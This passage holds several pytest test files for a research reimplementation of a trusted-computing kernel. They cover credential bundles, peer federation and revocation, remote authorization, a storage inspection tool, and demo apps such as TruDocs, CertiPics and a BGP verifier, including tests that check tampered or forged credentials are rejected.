        registry.revoke(peer.peer_id)
        again = registry.add("site", a.platform_root_key())
        assert again is peer and again.trusted


# --------------------------------------------------------------------------
# credential bundles
# --------------------------------------------------------------------------

class TestCredentialBundle:
    def test_export_verify_roundtrip(self, kernels):
        a, b = kernels
        bundle = _bundle_for(a, "issuer", ["fact(1)", "fact(2)"])
        labels = bundle.verify(a.platform_root_key())
        assert [str(label.body) for label in labels] == \
            ["fact(1)", "fact(2)"]
        assert bundle.subject_name == "issuer"

    def test_wire_roundtrip_is_fixpoint_and_digest_stable(self, kernels):
        a, _ = kernels
        bundle = _bundle_for(a, "issuer", ["fact(1)"])
        wire = json.loads(json.dumps(bundle.to_dict()))
        decoded = CredentialBundle.from_dict(wire)
        assert decoded.to_dict() == bundle.to_dict()
        assert decoded.digest() == bundle.digest()
        decoded.verify(a.platform_root_key())

    def test_wrong_root_key_rejected(self, kernels):
        a, b = kernels
        bundle = _bundle_for(a, "issuer", ["fact(1)"])
        with pytest.raises(BadChain):
            bundle.verify(b.platform_root_key())

    def test_dropping_a_chain_breaks_the_manifest(self, kernels):
        a, _ = kernels
        bundle = _bundle_for(a, "issuer", ["fact(1)", "fact(2)"])
        wire = bundle.to_dict()
        wire["chains"] = wire["chains"][:1]
        with pytest.raises(BadChain):
            CredentialBundle.from_dict(wire).verify(a.platform_root_key())

    def test_substituted_chain_breaks_the_manifest(self, kernels):
        a, _ = kernels
        victim = _bundle_for(a, "issuer", ["fact(1)"])
        other = _bundle_for(a, "other", ["unrelated(9)"])
        wire = victim.to_dict()
        wire["chains"] = [other.to_dict()["chains"][0]]
        with pytest.raises(BadChain):
            CredentialBundle.from_dict(wire).verify(a.platform_root_key())

    def test_empty_store_cannot_export(self):
        a = NexusKernel(key_seed=A_SEED)
        silent = a.create_process("silent")
        with pytest.raises(BadChain):
            export_credentials(a, silent.pid)

    def test_attestation_layer_helpers(self, kernels):
        a, b = kernels
        process = a.create_process("issuer")
        a.sys_say(process.pid, "fact(1)")
        bundle = export_credential_bundle(a, process.pid)
        labels = verify_credential_bundle(b, bundle.to_dict())
        assert str(labels[0].body) == "fact(1)"


# --------------------------------------------------------------------------
# admission and the import cache
# --------------------------------------------------------------------------

class TestAdmission:
    def test_admission_mints_a_first_class_principal(self, kernels):
        a, b = kernels
        bundle = _bundle_for(a, "issuer", ["fact(1)"])
        admission = b.admit_remote(bundle)
        assert admission.remote_principal.startswith("site-a.")
        store = b.default_labelstore(admission.pid)
        formulas = {str(label.formula) for label in store}
        # Ground truth, policy handle, and the speaksfor binding.
        assert any(text.startswith("TPM-") for text in formulas)
        assert f"{admission.remote_principal} says fact(1)" in formulas
        assert (f"site-a says ({admission.principal} speaksfor "
                f"{admission.remote_principal})") in formulas

    def test_digest_cache_serves_warm_admissions(self, kernels):
        a, b = kernels
        bundle = _bundle_for(a, "issuer", ["fact(1)"])
        first = b.admit_remote(bundle)
        second = b.admit_remote(bundle.to_dict())
        third = b.admit_remote(first.digest)
        assert not first.cached and second.cached and third.cached
        assert first.pid == second.pid == third.pid
        assert b.federation.cold_admissions == 1
        assert b.federation.cache_hits == 2

    def test_unknown_digest_needs_the_full_bundle(self, kernels):
        _, b = kernels
        with pytest.raises(BadChain):
            b.admit_remote("ab" * 32)

    def test_revocation_epoch_forces_reverification(self, kernels):
        a, b = kernels
        bundle = _bundle_for(a, "issuer", ["fact(1)"])
        first = b.admit_remote(bundle)
        b.decision_cache.bump_policy_epoch()  # any revocation does this
        refreshed = b.admit_remote(bundle)
        assert not refreshed.cached  # re-verified, not replayed
        assert refreshed.pid == first.pid  # same principal, re-earned
        assert b.federation.refreshes == 1
        warm = b.admit_remote(bundle)
        assert warm.cached

    def test_third_party_revocation_service_invalidates_admissions(
            self, kernels):
        a, b = kernels
        revocation = RevocationService(b)
        issuer = b.create_process("local-issuer")
        revocation.issue(issuer, "blessed(x)")
        bundle = _bundle_for(a, "issuer", ["fact(1)"])
        b.admit_remote(bundle)
        revocation.revoke(issuer, "blessed(x)")
        assert not b.admit_remote(bundle).cached  # epoch moved → cold

    def test_revoked_peer_drops_admitted_principals(self, kernels):
        a, b = kernels
        bundle = _bundle_for(a, "issuer", ["fact(1)"])
        admission = b.admit_remote(bundle)
        label = parse(f"{admission.remote_principal} says fact(1)")
        assert b.labels.holds(label)
        peer = b.peers.by_name("site-a")
        dropped = b.revoke_peer(peer.peer_id)
        assert dropped == 1
        assert not b.labels.holds(label)  # credentials gone with the peer
        assert admission.pid not in b.processes
        with pytest.raises(UntrustedPeer):
            b.admit_remote(bundle)

    def test_lazy_drop_when_peer_revoked_behind_the_cache(self, kernels):
        """Revoking via the registry alone (no eager drop) still fails
        the next cache touch and removes the sponsored principal."""
        a, b = kernels
        bundle = _bundle_for(a, "issuer", ["fact(1)"])
        admission = b.admit_remote(bundle)
        b.peers.revoke(b.peers.by_name("site-a").peer_id)
        with pytest.raises(UntrustedPeer):
            b.admit_remote(bundle.digest())
        assert admission.pid not in b.processes
        assert len(b.federation) == 0

    def test_reinstated_peer_requires_fresh_bundles(self, kernels):
        a, b = kernels
        bundle = _bundle_for(a, "issuer", ["fact(1)"])
        b.admit_remote(bundle)
        peer = b.peers.by_name("site-a")
        revocation = RevocationService(b)
        revocation.revoke_peer(peer.peer_id)
        revocation.reinstate_peer(peer.peer_id, "site-a")
        admission = b.admit_remote(bundle)  # re-presented, re-verified
        assert not admission.cached
        assert b.authorize_remote(bundle, "read", _goal_resource(
            b, admission), None).allow is False  # no goal set: default deny


def _goal_resource(kernel, admission):
    """A resource the admitted principal does not own (helper)."""
    owner = kernel.create_process("owner")
    resource = kernel.resources.create("/files/x", "file",
                                       kernel.processes.get(
                                           owner.pid).principal)
    return resource.resource_id


# --------------------------------------------------------------------------
# remote authorization
# --------------------------------------------------------------------------

class TestAuthorizeRemote:
    def test_remote_equals_local_verdict(self, kernels):
        """The acceptance property: an admitted remote principal earns
        the same verdict as an equivalently credentialed local one."""
        a, b = kernels
        # Local twin on B.
        local = b.create_process("twin")
        b.sys_say(local.pid, "ok(door)")
        owner = b.create_process("owner")
        resource = b.resources.create("/files/door", "file",
                                      b.processes.get(owner.pid).principal)
        local_goal = f"{local.principal} says ok(door)"
        b.default_guard.goals.set_goal(resource.resource_id, "open",
                                       parse(local_goal))
        from repro.core.attestation import kernel_wallet_bundle
        local_decision = b.authorize(
            local.pid, "open", resource.resource_id,
            kernel_wallet_bundle(b, local.pid, "open", resource))
        # Remote subject with the same credential, via federation.
        bundle = _bundle_for(a, "visitor", ["ok(door)"])
        admission = b.admit_remote(bundle)
        b.default_guard.goals.set_goal(
            resource.resource_id, "open",
            parse(f"{admission.remote_principal} says ok(door)"))
        b.decision_cache.invalidate_goal("open", resource.resource_id)
        remote_decision = b.authorize_remote(bundle, "open",
                                             resource.resource_id)
        assert local_decision.allow is remote_decision.allow is True
        assert local_decision.reason == remote_decision.reason

    def test_authorize_remote_accepts_digest_and_hits_caches(self, kernels):
        a, b = kernels
        bundle = _bundle_for(a, "visitor", ["ok(door)"])
        admission = b.admit_remote(bundle)
        owner = b.create_process("owner")
        resource = b.resources.create("/files/door", "file",
                                      b.processes.get(owner.pid).principal)
        b.default_guard.goals.set_goal(
            resource.resource_id, "open",
            parse(f"{admission.remote_principal} says ok(door)"))
        first = b.authorize_remote(admission.digest, "open",
                                   resource.resource_id)
        assert first.allow
        hits_before = b.decision_cache.stats.hits
        again = b.authorize_remote(admission.digest, "open",
                                   resource.resource_id)
        assert again.allow and again.reason == "decision cache"
        assert b.decision_cache.stats.hits == hits_before + 1


# --------------------------------------------------------------------------
# the two-kernel typed object store (§4 across machines)
# --------------------------------------------------------------------------

class TestFederatedObjectStore:
    def _image(self, records=20):
        from repro.apps.objectstore import Schema, TypedObjectStore
        schema = Schema.of(name="str", age="int")
        producer = TypedObjectStore(schema, producer="jvm")
        for i in range(records):
            producer.put({"name": f"user{i}", "age": i})
        return schema, producer.export()

    def test_producer_attestation_on_a_authorizes_read_on_b(self, kernels):
        from repro.apps.objectstore import (STORE_POLICY_NAME,
                                            federated_certifier,
                                            import_federated,
                                            publish_store, store_policy)
        a, b = kernels
        schema, image = self._image()
        # Kernel A: the certifier attests the producer's typesafety.
        bundle = _bundle_for(a, "TypeCertifier", ["typesafe(jvm)"])
        # Kernel B: policy demands the *federated* certifier's word.
        admin = b.create_process("store-admin")
        speaker = federated_certifier("site-a", bundle)
        b.policies.put(store_policy(certifier=speaker))
        b.policies.apply(admin.pid, STORE_POLICY_NAME)
        publish_store(b, admin.pid, image)
        fast = import_federated(image, schema, b, bundle)
        assert fast.validations == 0  # transitive integrity: fast path
        assert len(fast) == 20

    def test_tampered_attestation_is_a_structured_deny(self, kernels):
        """A forged certificate is not a slow path — it is evidence of
        tampering, refused outright with a stable code."""
        from repro.apps.objectstore import (STORE_POLICY_NAME,
                                            federated_certifier,
                                            import_federated,
                                            publish_store, store_policy)
        a, b = kernels
        schema, image = self._image()
        bundle = _bundle_for(a, "TypeCertifier", ["typesafe(jvm)"])
        admin = b.create_process("store-admin")
        b.policies.put(store_policy(
            certifier=federated_certifier("site-a", bundle)))
        b.policies.apply(admin.pid, STORE_POLICY_NAME)
        publish_store(b, admin.pid, image)
        tampered = json.loads(json.dumps(bundle.to_dict()))
        tampered["chains"][0]["certs"][-1]["statement"] = \
            tampered["chains"][0]["certs"][-1]["statement"].replace(
                "typesafe(jvm)", "typesafe(malware)")
        with pytest.raises(BadChain):
            import_federated(image, schema, b, tampered)

    def test_missing_attestation_selects_the_slow_path(self, kernels):
        from repro.apps.objectstore import (STORE_POLICY_NAME,
                                            federated_certifier,
                                            import_federated,
                                            publish_store, store_policy)
        a, b = kernels
        schema, image = self._image()
        bundle = _bundle_for(a, "NotTheCertifier", ["unrelated(jvm)"])
        admin = b.create_process("store-admin")
        # Policy demands a statement the bundle does not carry.
        speaker = federated_certifier("site-a", bundle)
        b.policies.put(store_policy(certifier=f"{speaker}x"))
        b.policies.apply(admin.pid, STORE_POLICY_NAME)
        publish_store(b, admin.pid, image)
        slow = import_federated(image, schema, b, bundle)
        assert slow.validations == 20  # deny is data: slow path
        assert len(slow) == 20


# --------------------------------------------------------------------------
# the wire endpoints
# --------------------------------------------------------------------------

class TestFederationApi:
    def _federated_pair(self):
        a = NexusClient.over_http(NexusService(NexusKernel(key_seed=A_SEED)))
        b_service = NexusService(NexusKernel(key_seed=B_SEED))
        b = NexusClient.over_http(b_service)
        return a, b, b_service

    def test_peer_add_list_export_admit_over_http(self):
        a, b, b_service = self._federated_pair()
        issuer = a.open_session("issuer")
        issuer.say("fact(1)")
        exported = issuer.export_credentials()
        admin = b.open_session("admin")
        peer = admin.add_peer("site-a", a.info().platform["root_key"],
                              platform=a.info().platform["platform"])
        assert peer.trusted
        listed = admin.list_peers()
        assert [p["name"] for p in listed] == ["site-a"]
        admission = admin.admit_remote(exported.bundle)
        assert admission.peer == "site-a"
        assert admission.labels == 1
        assert not admission.cached
        assert admin.admit_remote(digest=exported.digest).cached
        assert admin.list_peers()[0]["admitted"] == 1

    def test_admit_without_bundle_or_digest_is_bad_request(self):
        _, b, _ = self._federated_pair()
        admin = b.open_session("admin")
        raw = {"v": "v1", "kind": "federation/admit",
               "payload": {"session": admin.token}}
        from repro.api import messages as msg
        with pytest.raises(ApiError) as excinfo:
            msg.decode_request(json.dumps(raw))
        assert excinfo.value.code == "E_BAD_REQUEST"

    def test_untrusted_peer_maps_to_403(self):
        a, b, b_service = self._federated_pair()
        issuer = a.open_session("issuer")
        issuer.say("fact(1)")
        exported = issuer.export_credentials()
        admin = b.open_session("admin")
        request = {"v": "v1", "kind": "federation/admit",
                   "payload": {"session": admin.token,
                               "bundle": exported.bundle}}
        from repro.net.http import HTTPRequest
        response = b_service.router().dispatch(HTTPRequest(
            "POST", "/api/v1/federation/admit", {},
            json.dumps(request).encode()))
        assert response.status == 403
        from repro.api import messages as msg
        assert msg.decode_response(response.body).code == \
            "E_UNTRUSTED_PEER"

    def test_info_publishes_platform_identity(self):
        a, _, _ = self._federated_pair()
        platform = a.info().platform
        assert set(platform) == {"platform", "boot_id", "peer_id",
                                 "root_key"}
        assert platform["platform"].startswith("NK-")
