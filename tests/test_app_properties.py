"""Property-based tests for the application layer: TruDocs derivations,
CertiPics logs, BGP safety, and the typed object store."""

import pytest
from hypothesis import assume, given, settings, strategies as st

from repro.apps.bgp import Advertisement, BGPSpeaker, BGPVerifier
from repro.apps.certipics import CertiPics, Image, verify_log
from repro.apps.objectstore import Schema, TypedObjectStore
from repro.apps.trudocs import Document, TruDocs, UsePolicy
from repro.core.credentials import CredentialSet
from repro.crypto.rsa import generate_keypair
from repro.errors import IntegrityError, PolicyViolation
from repro.kernel import NexusKernel

_WORDS = ("alpha", "bravo", "charlie", "delta", "echo", "foxtrot",
          "golf", "hotel", "india", "juliet", "kilo", "lima")


@pytest.fixture(scope="module")
def trudocs_kernel():
    kernel = NexusKernel()
    return kernel, TruDocs(kernel)


class TestTruDocsProperties:
    @given(start=st.integers(0, 8), length=st.integers(1, 4))
    @settings(max_examples=40, deadline=None)
    def test_contiguous_excerpts_always_certify(self, trudocs_kernel,
                                                start, length):
        """Any contiguous fragment of the source within the length policy
        is derivable — the checker must never reject honest quotes."""
        _, trudocs = trudocs_kernel
        text = " ".join(_WORDS)
        document = Document(name=f"doc-{start}-{length}", text=text,
                            policy=UsePolicy(max_excerpt_words=6,
                                             max_excerpts=10**6))
        words = _WORDS[start:start + length]
        assume(words)
        trudocs.check_excerpt(document, " ".join(words))

    @given(picked=st.lists(st.sampled_from(_WORDS), min_size=2, max_size=5,
                           unique=True))
    @settings(max_examples=40, deadline=None)
    def test_elided_subsequences_certify_in_order_only(self, trudocs_kernel,
                                                       picked):
        _, trudocs = trudocs_kernel
        text = " ".join(_WORDS)
        document = Document(name="seq", text=text,
                            policy=UsePolicy(max_excerpt_words=20,
                                             max_excerpts=10**6))
        in_order = sorted(picked, key=_WORDS.index)
        trudocs.check_excerpt(document, " ... ".join(in_order))
        if in_order != list(reversed(in_order)):
            with pytest.raises(PolicyViolation):
                trudocs.check_excerpt(document,
                                      " ... ".join(reversed(in_order)))


_ops = st.lists(
    st.sampled_from([("invert",), ("grayscale",), ("crop", 1, 1, 6, 6),
                     ("resize", 10, 10)]),
    min_size=0, max_size=5)


class TestCertiPicsProperties:
    KEY = generate_keypair(512, seed=2024)

    @staticmethod
    def _apply_if_legal(session, op):
        if op[0] == "crop":
            _, x, y, w, h = op
            if x + w > session.current.width or y + h > session.current.height:
                return False
        session.apply(op[0], *op[1:])
        return True

    @given(_ops)
    @settings(max_examples=30, deadline=None)
    def test_any_legal_pipeline_verifies(self, ops):
        source = Image.from_rows([[(x * 3 + y) % 256 for x in range(8)]
                                  for y in range(8)])
        session = CertiPics(source, self.KEY)
        for op in ops:
            self._apply_if_legal(session, op)
        log = session.finalize()
        verify_log(source, session.current, log, self.KEY.public)

    @given(_ops, st.integers(0, 4))
    @settings(max_examples=30, deadline=None)
    def test_dropping_any_entry_breaks_the_chain(self, ops, victim):
        assume(len(ops) >= 2)
        source = Image.from_rows([[(x + y) % 256 for x in range(8)]
                                  for y in range(8)])
        session = CertiPics(source, self.KEY)
        for op in ops:
            self._apply_if_legal(session, op)
        log = session.finalize()
        assume(len(log.entries) >= 2)
        victim %= len(log.entries)
        removed = log.entries.pop(victim)
        # Removing a no-op entry (identical digests) can be undetectable
        # only if input == output; our ops always change *something*
        # except degenerate crops/resizes — treat equality as vacuous.
        assume(removed.input_digest != removed.output_digest)
        with pytest.raises((IntegrityError, Exception)):
            verify_log(source, session.current, log, self.KEY.public)


class TestBGPProperties:
    @given(st.lists(st.tuples(st.integers(400, 450),
                              st.lists(st.integers(100, 120), min_size=1,
                                       max_size=4, unique=True)),
                    min_size=1, max_size=8))
    @settings(max_examples=40, deadline=None)
    def test_honest_speakers_never_blocked(self, routes):
        """Whatever arrives, an honest re-advertisement passes."""
        ownership = {"10.0.0.0/8": 100}
        speaker = BGPSpeaker(300)
        verifier = BGPVerifier(speaker, ownership)
        for from_as, path in routes:
            assume(300 not in path)
            verifier.deliver_inbound(
                Advertisement("10.0.0.0/8", tuple(path)), from_as=from_as)
        if speaker.best_route("10.0.0.0/8") is None:
            return
        adv = verifier.emit("10.0.0.0/8")
        assert adv.advertiser == 300
        assert not verifier.violations

    @given(st.integers(2, 6))
    @settings(max_examples=20, deadline=None)
    def test_shortening_always_caught(self, path_len):
        speaker = BGPSpeaker(300)
        speaker.lie_shorten_paths = True
        verifier = BGPVerifier(speaker, {"10.0.0.0/8": 100})
        path = tuple(range(150, 150 + path_len - 1)) + (100,)
        verifier.deliver_inbound(Advertisement("10.0.0.0/8", path),
                                 from_as=path[0])
        # A received path of length >= 2 always leaves the liar room to
        # shorten (honest re-advertisement would be path_len + 1 hops).
        with pytest.raises(PolicyViolation):
            verifier.emit("10.0.0.0/8")


class TestObjectStoreProperties:
    SCHEMA = Schema.of(name="str", age="int")

    @given(st.lists(st.tuples(st.text(max_size=8),
                              st.integers(-100, 100)),
                    min_size=0, max_size=10),
           st.booleans())
    @settings(max_examples=40, deadline=None)
    def test_roundtrip_preserves_records_on_both_paths(self, rows, fast):
        store = TypedObjectStore(self.SCHEMA, producer="jvm-x")
        for name, age in rows:
            store.put({"name": name, "age": age})
        image = store.export()
        wallet = (CredentialSet(["TypeCertifier says typesafe(jvm-x)"])
                  if fast else None)
        restored = TypedObjectStore.import_image(image, self.SCHEMA,
                                                 credentials=wallet)
        assert restored.records() == store.records()
        assert restored.validations == (0 if fast else len(rows))
