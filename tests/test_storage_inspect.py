"""The ``python -m repro.storage.inspect`` operator tool."""

import json

import pytest

from repro.errors import ReproError
from repro.kernel.kernel import NexusKernel
from repro.storage import inspect_directory
from repro.storage.backend import FileBackend
from repro.storage.inspect import main

KEYS = {"key_seed": 1001, "key_bits": 512}


def _populated(directory, snapshot=False):
    backend = FileBackend(str(directory), exclusive=True)
    kernel = NexusKernel(**KEYS)
    kernel.attach_storage(backend, sync_every=1)
    process = kernel.create_process("alice")
    kernel.sys_say(process.pid, "likes(pie)")
    if snapshot:
        kernel.snapshot_now()
        kernel.sys_say(process.pid, "likes(cake)")
    stats = kernel.storage_stats()
    backend.close()
    return stats


class TestInspectDirectory:
    def test_fresh_history(self, tmp_path):
        stats = _populated(tmp_path)
        summary = inspect_directory(str(tmp_path))
        assert summary["chain_ok"] is True
        # attach_storage stamps an initial (seq 0) snapshot.
        assert summary["snapshot"]["present"] is True
        assert summary["snapshot"]["seq"] == 0
        assert summary["seq"] == stats["seq"]
        assert summary["log"]["records"] == stats["seq"]
        assert summary["log"]["unconsumed_tail_bytes"] == 0
        assert "label" in summary["log"]["types"]

    def test_snapshot_plus_live_tail(self, tmp_path):
        stats = _populated(tmp_path, snapshot=True)
        summary = inspect_directory(str(tmp_path))
        assert summary["snapshot"]["present"] is True
        assert summary["snapshot"]["checksum_ok"] is True
        assert summary["seq"] == stats["seq"]
        assert summary["log"]["live_records"] \
            == stats["seq"] - summary["snapshot"]["seq"]

    def test_inspection_never_mutates(self, tmp_path):
        import os
        _populated(tmp_path)
        log_path = tmp_path / "wal.log"
        before = (os.path.getsize(log_path), log_path.read_bytes())
        inspect_directory(str(tmp_path))
        assert (os.path.getsize(log_path), log_path.read_bytes()) \
            == before

    def test_corrupted_log_raises(self, tmp_path):
        _populated(tmp_path)
        log_path = tmp_path / "wal.log"
        raw = bytearray(log_path.read_bytes())
        raw[len(raw) // 2] ^= 0xFF
        log_path.write_bytes(bytes(raw))
        with pytest.raises(ReproError):
            inspect_directory(str(tmp_path))


class TestInspectCli:
    def test_human_output(self, tmp_path, capsys):
        _populated(tmp_path, snapshot=True)
        assert main([str(tmp_path)]) == 0
        out = capsys.readouterr().out
        assert "snapshot: seq" in out
        assert "verdict:  chain ok, snapshot ok" in out

    def test_json_output(self, tmp_path, capsys):
        _populated(tmp_path)
        assert main([str(tmp_path), "--json"]) == 0
        document = json.loads(capsys.readouterr().out)
        assert document["ok"] is True
        assert document["chain_ok"] is True

    def test_records_dump(self, tmp_path, capsys):
        _populated(tmp_path)
        assert main([str(tmp_path), "--records"]) == 0
        out = capsys.readouterr().out
        assert "records:" in out
        assert "label" in out

    def test_records_dump_json_lines(self, tmp_path, capsys):
        _populated(tmp_path)
        assert main([str(tmp_path), "--records", "--json"]) == 0
        lines = capsys.readouterr().out.strip().splitlines()
        summary = json.loads(lines[0])
        assert summary["ok"] is True
        records = [json.loads(line) for line in lines[1:]]
        assert records and all("seq" in r and "type" in r
                               for r in records)

    def test_corruption_exits_one_with_code(self, tmp_path, capsys):
        _populated(tmp_path)
        log_path = tmp_path / "wal.log"
        raw = bytearray(log_path.read_bytes())
        raw[len(raw) // 2] ^= 0xFF
        log_path.write_bytes(bytes(raw))
        assert main([str(tmp_path), "--json"]) == 1
        document = json.loads(capsys.readouterr().out)
        assert document["ok"] is False
        assert document["code"].startswith("E_")

    def test_missing_directory_fails(self, tmp_path, capsys):
        missing = str(tmp_path / "nope")
        assert main([missing]) == 1
        assert "FAIL" in capsys.readouterr().out

    def test_module_entry_point(self, tmp_path):
        import subprocess
        import sys
        _populated(tmp_path)
        completed = subprocess.run(
            [sys.executable, "-m", "repro.storage.inspect",
             str(tmp_path), "--json"],
            capture_output=True, text=True,
            env={"PYTHONPATH": "src", "PATH": "/usr/bin:/bin"},
            cwd="/root/repo")
        assert completed.returncode == 0
        assert json.loads(completed.stdout)["ok"] is True
