"""Tests for the movie player, object store, Not-a-Bot, TruDocs,
CertiPics, and the BGP verifier (§4, Other Applications)."""

import pytest

from repro.analysis import IPCConnectivityAnalyzer
from repro.apps.bgp import Advertisement, BGPSpeaker, BGPVerifier, Withdrawal
from repro.apps.certipics import (
    CertiPics,
    Image,
    crop,
    invert,
    resize,
    verify_log,
)
from repro.apps.movieplayer import ContentServer, MoviePlayer
from repro.apps.notabot import KeyboardDriver, MailClient, SpamClassifier
from repro.apps.objectstore import Schema, TypedObjectStore
from repro.apps.trudocs import Document, TruDocs, UsePolicy
from repro.core.credentials import CredentialSet
from repro.crypto.rsa import generate_keypair
from repro.errors import (
    AccessDenied,
    AppError,
    IntegrityError,
    PolicyViolation,
)
from repro.kernel import NexusKernel
from repro.nal import parse


# ---------------------------------------------------------------------------
# Movie player
# ---------------------------------------------------------------------------

class TestMoviePlayer:
    def _world(self):
        kernel = NexusKernel()
        fs = kernel.create_process("fs-server")
        fs_port = kernel.create_port(fs.pid, "fs", handler=lambda *a: None)
        net = kernel.create_process("net-driver")
        net_port = kernel.create_port(net.pid, "net", handler=lambda *a: None)
        analyzer = IPCConnectivityAnalyzer(kernel)
        server = ContentServer(kernel, analyzer, movie=b"MOVIE-BYTES")
        return kernel, analyzer, server, fs_port, net_port

    def test_isolated_player_gets_stream(self):
        kernel, analyzer, server, fs_port, net_port = self._world()
        player = MoviePlayer(kernel)
        assert player.request_stream(server, analyzer) == b"MOVIE-BYTES"

    def test_leaky_player_refused(self):
        kernel, analyzer, server, fs_port, net_port = self._world()
        player = MoviePlayer(kernel, name="leaky-player")
        # The player opens a channel to the disk before asking.
        kernel.ipc_call(player.process.pid, fs_port.port_id)
        with pytest.raises(AccessDenied):
            player.request_stream(server, analyzer)

    def test_any_binary_hash_works(self):
        """The point of the exercise: two different player binaries both
        stream, because trust rests on analysis, not hashes."""
        kernel, analyzer, server, fs_port, net_port = self._world()
        a = MoviePlayer(kernel, name="player-a", image=b"mplayer")
        b = MoviePlayer(kernel, name="player-b", image=b"totally-different")
        assert a.request_stream(server, analyzer) == b"MOVIE-BYTES"
        assert b.request_stream(server, analyzer) == b"MOVIE-BYTES"

    def test_network_path_also_refused(self):
        kernel, analyzer, server, fs_port, net_port = self._world()
        player = MoviePlayer(kernel, name="uploader")
        kernel.ipc_call(player.process.pid, net_port.port_id)
        with pytest.raises(AccessDenied):
            player.request_stream(server, analyzer)


# ---------------------------------------------------------------------------
# Typed object store
# ---------------------------------------------------------------------------

class TestObjectStore:
    SCHEMA = Schema.of(name="str", age="int", active="bool")

    def _populated(self, n=5):
        store = TypedObjectStore(self.SCHEMA, producer="jvm-1")
        for i in range(n):
            store.put({"name": f"user{i}", "age": 20 + i, "active": True})
        return store

    def test_put_validates(self):
        store = TypedObjectStore(self.SCHEMA)
        with pytest.raises(IntegrityError):
            store.put({"name": "x", "age": "not-an-int", "active": True})
        with pytest.raises(IntegrityError):
            store.put({"name": "x"})

    def test_schema_rejects_unknown_types(self):
        with pytest.raises(AppError):
            Schema.of(field="complex128")

    def test_export_import_slow_path_validates(self):
        image = self._populated().export()
        restored = TypedObjectStore.import_image(image, self.SCHEMA)
        assert len(restored) == 5
        assert restored.validations == 5  # every record checked

    def test_import_fast_path_with_credential(self):
        image = self._populated().export()
        wallet = CredentialSet(["TypeCertifier says typesafe(jvm-1)"])
        restored = TypedObjectStore.import_image(image, self.SCHEMA,
                                                 credentials=wallet)
        assert len(restored) == 5
        assert restored.validations == 0  # sanity checking skipped

    def test_wrong_producer_credential_falls_back_to_slow_path(self):
        image = self._populated().export()
        wallet = CredentialSet(["TypeCertifier says typesafe(other-jvm)"])
        restored = TypedObjectStore.import_image(image, self.SCHEMA,
                                                 credentials=wallet)
        assert restored.validations == 5

    def test_corrupted_image_detected(self):
        image = self._populated().export()
        image.payload = image.payload[:-1] + b"!"
        with pytest.raises(IntegrityError):
            TypedObjectStore.import_image(image, self.SCHEMA)

    def test_schema_mismatch_detected(self):
        image = self._populated().export()
        other = Schema.of(name="str")
        with pytest.raises(IntegrityError):
            TypedObjectStore.import_image(image, other)


# ---------------------------------------------------------------------------
# Not-a-Bot
# ---------------------------------------------------------------------------

class TestNotABot:
    def _world(self):
        kernel = NexusKernel()
        driver = KeyboardDriver(kernel)
        client = MailClient(kernel, driver, sender="alice@example.com")
        classifier = SpamClassifier(root_key=kernel.tpm.ek_public)
        return kernel, driver, client, classifier

    def test_typed_mail_is_ham(self):
        _, _, client, classifier = self._world()
        email = client.compose("hi bob, lunch tomorrow?", typed=True)
        assert classifier.classify(email) == "ham"

    def test_bot_mail_is_spam(self):
        _, _, client, classifier = self._world()
        email = client.compose("click here for FREE MONEY", typed=False)
        assert classifier.classify(email) == "spam"

    def test_missing_certificate_scores_zero(self):
        _, _, client, classifier = self._world()
        email = client.compose("legit text", typed=True)
        email.presence_chain = None
        assert classifier.presence_score(email) == 0.0

    def test_forged_chain_scores_zero(self):
        kernel, driver, client, classifier = self._world()
        email = client.compose("hello", typed=True)
        other = NexusKernel(key_seed=2002)
        other_driver = KeyboardDriver(other)
        other_client = MailClient(other, other_driver, sender="eve")
        forged = other_client.compose("hello", typed=True)
        # Certificate chain from a different platform key: rejected.
        email.presence_chain = forged.presence_chain
        assert classifier.presence_score(email) == 0.0

    def test_windows_reset_counts(self):
        kernel, driver, *_ = self._world()
        driver.new_window()
        driver.physical_keypress(10)
        label = driver.attest_presence()
        assert "10" in str(label.formula)
        driver.new_window()
        label = driver.attest_presence()
        assert "(2, 0)" in str(label.formula)


# ---------------------------------------------------------------------------
# TruDocs
# ---------------------------------------------------------------------------

class TestTruDocs:
    SOURCE = ("The committee found no evidence of wrongdoing. However, "
              "the committee notes that procedures were not followed in "
              "three instances during the review period.")

    def _world(self, **policy):
        kernel = NexusKernel()
        trudocs = TruDocs(kernel)
        document = Document(name="report", text=self.SOURCE,
                            policy=UsePolicy(**policy))
        return kernel, trudocs, document

    def test_verbatim_excerpt_certified(self):
        kernel, trudocs, document = self._world()
        label = trudocs.certify(document,
                                "The committee found no evidence of "
                                "wrongdoing.")
        assert "speaksfor" in str(label)
        assert kernel.labels.holds(label)

    def test_ellipsis_excerpt(self):
        _, trudocs, document = self._world()
        trudocs.certify(document,
                        "The committee found ... procedures were not "
                        "followed")

    def test_out_of_order_segments_rejected(self):
        _, trudocs, document = self._world()
        with pytest.raises(PolicyViolation):
            trudocs.certify(document,
                            "procedures were not followed ... The "
                            "committee found")

    def test_fabricated_text_rejected(self):
        _, trudocs, document = self._world()
        with pytest.raises(PolicyViolation):
            trudocs.certify(document, "The committee found ample evidence "
                                      "of wrongdoing")

    def test_editorial_brackets(self):
        _, trudocs, document = self._world()
        trudocs.certify(document,
                        "the committee notes that procedures were not "
                        "followed [in the review period]")

    def test_editorial_disallowed_by_policy(self):
        _, trudocs, document = self._world(allow_editorial=False)
        with pytest.raises(PolicyViolation):
            trudocs.certify(document, "no evidence [whatsoever]")

    def test_case_change_policy(self):
        _, trudocs, document = self._world(allow_case_change=True)
        trudocs.certify(document, "THE COMMITTEE FOUND NO EVIDENCE")
        _, trudocs, document = self._world(allow_case_change=False)
        with pytest.raises(PolicyViolation):
            trudocs.certify(document, "THE COMMITTEE FOUND NO EVIDENCE")

    def test_length_limit(self):
        _, trudocs, document = self._world(max_excerpt_words=3)
        with pytest.raises(PolicyViolation):
            trudocs.certify(document, "The committee found no evidence")

    def test_excerpt_count_limit(self):
        _, trudocs, document = self._world(max_excerpts=2)
        trudocs.certify(document, "The committee")
        trudocs.certify(document, "no evidence")
        with pytest.raises(PolicyViolation):
            trudocs.certify(document, "the review period")


# ---------------------------------------------------------------------------
# CertiPics
# ---------------------------------------------------------------------------

def _image(w=8, h=8):
    return Image.from_rows([[(x + y * w) % 256 for x in range(w)]
                            for y in range(h)])


class TestCertiPics:
    @pytest.fixture(scope="class")
    def key(self):
        return generate_keypair(512, seed=77)

    def test_ops_produce_expected_geometry(self):
        image = _image(8, 6)
        assert crop(image, 1, 1, 4, 3).width == 4
        assert crop(image, 1, 1, 4, 3).height == 3
        assert resize(image, 16, 12).width == 16
        assert invert(invert(image)) == image

    def test_crop_bounds(self):
        with pytest.raises(AppError):
            crop(_image(4, 4), 2, 2, 4, 4)

